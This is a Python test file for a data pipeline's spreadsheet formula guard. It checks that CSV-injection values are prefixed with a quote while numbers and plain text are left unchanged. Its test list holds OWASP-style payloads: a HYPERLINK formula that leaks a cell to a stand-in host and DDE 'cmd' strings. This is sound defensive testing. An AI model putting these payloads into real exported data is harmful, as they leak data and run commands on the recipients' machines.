"""The spreadsheet formula guard: what a spreadsheet would run reads as text; numbers and non-strings stay."""

from __future__ import annotations

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipekit.core import (
    CleaningConfig,
    formula_guard_kernel,
    guard_formula_text,
    guard_formulas,
    needs_formula_guard,
    normalize_batch,
)
from pipekit.errors import ConfigError

# The payloads of the issue (OWASP CSV injection), and the leading characters OWASP / ASVS list.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    "-",
    "+1 555 0100",  # a phone number is not one plain number: a spreadsheet would try to compute it
    "-1,5",
    "--1",
    "+-1",
    "-1e",
    "-0x1F",
]
PLAIN = ["-12.5", "+1", "-1e5", "+2.5E-3", "-.5", "-5.", "12", "", "a=b", "john@example.com", "'=already"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_values_are_prefixed_with_a_quote(value: str) -> None:
    out, n = formula_guard_kernel(pa.array([value]))
    assert out.to_pylist() == ["'" + value] and n == 1
    assert guard_formula_text(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    out, n = formula_guard_kernel(pa.array([value]))
    assert out.to_pylist() == [value] and n == 0
    assert not needs_formula_guard(value)


def test_only_string_columns_are_guarded_and_nulls_stay_null() -> None:
    table = pa.table(
        {
            "amount": pa.array([-12, 3, None], pa.int64()),
            "ratio": pa.array([-0.5, None, 1.0]),
            "flag": pa.array([True, None, False]),
            "note": pa.array(["=1+1", None, "-12.5"]),
            "big": pa.array(["@x", "ok", None], pa.large_string()),
        }
    )
    out, counts = guard_formulas(table)
    assert counts == {"note": 1, "big": 1}
    assert out.schema == table.schema
    assert out.column("amount").to_pylist() == [-12, 3, None]
    assert out.column("ratio").to_pylist() == [-0.5, None, 1.0]
    assert out.column("note").to_pylist() == ["'=1+1", None, "-12.5"]
    assert out.column("big").to_pylist() == ["'@x", "ok", None]


def test_a_table_without_formulas_comes_back_as_it_was() -> None:
    table = pa.table({"name": ["Ann", "Bob"], "n": ["-1", "+2"]})
    out, counts = guard_formulas(table)
    assert counts == {} and out is table


def test_chunked_and_sliced_arrays() -> None:
    chunked = pa.chunked_array([["ok", "=a"], [], ["b", None, "+c"]])
    out, n = formula_guard_kernel(chunked)
    assert n == 2 and out.to_pylist() == ["ok", "'=a", "b", None, "'+c"]
    # A slice starts at a non-zero offset into the buffers: the pre-check must read the right bytes.
    sliced = pa.array(["=x", "safe", "@y", "z"]).slice(1, 2)
    out, n = formula_guard_kernel(sliced)
    assert n == 1 and out.to_pylist() == ["safe", "'@y"]
    assert formula_guard_kernel(pa.array(["=x", "y"]).slice(1, 1))[1] == 0
    assert formula_guard_kernel(pa.array([], pa.string()))[1] == 0
    assert formula_guard_kernel(pa.array([None, None], pa.string()))[1] == 0


def test_trimming_never_creates_a_formula() -> None:
    """A value that becomes formula-like once trimmed is guarded, because the guard runs on the final value."""
    batch = pa.table({"id": ["1", "2"], "name": ["a", "b"], "email": ["a@b.io", "c@d.io"],
                      "timestamp": ["2020-01-01"] * 2, "note": ["\t=1+1", "  @SUM(A1) "]})  # fmt: skip
    trimmed, _ = normalize_batch(batch, CleaningConfig())
    assert trimmed.column("note").to_pylist() == ["=1+1", "@SUM(A1)"]
    guarded, counts = guard_formulas(trimmed)
    assert guarded.column("note").to_pylist() == ["'=1+1", "'@SUM(A1)"] and counts == {"note": 2}


def test_cleaning_config_carries_the_switch() -> None:
    assert CleaningConfig().formula_guard is True
    assert CleaningConfig(formula_guard=False).formula_guard is False
    with pytest.raises(ConfigError, match="formula_guard"):
        CleaningConfig(formula_guard="no")  # type: ignore[arg-type]


_TEXT = st.text(alphabet=st.sampled_from([*"=+-@\t\r\n\x00.eE0123456789 ,'a"]), max_size=8)


@settings(max_examples=300, deadline=None)
@given(values=st.lists(st.one_of(st.none(), _TEXT), max_size=30))
def test_property_kernel_agrees_with_the_scalar_rule_and_is_idempotent(values: list[str | None]) -> None:
    out, n = formula_guard_kernel(pa.array(values, pa.string()))
    expected = [None if v is None else guard_formula_text(v) for v in values]
    assert out.to_pylist() == expected
    assert n == sum(1 for v in values if v is not None and needs_formula_guard(v))
    # A guarded value never needs guarding again, and nothing guarded still starts with a trigger.
    again, n_again = formula_guard_kernel(out)
    assert again.to_pylist() == expected and n_again == 0
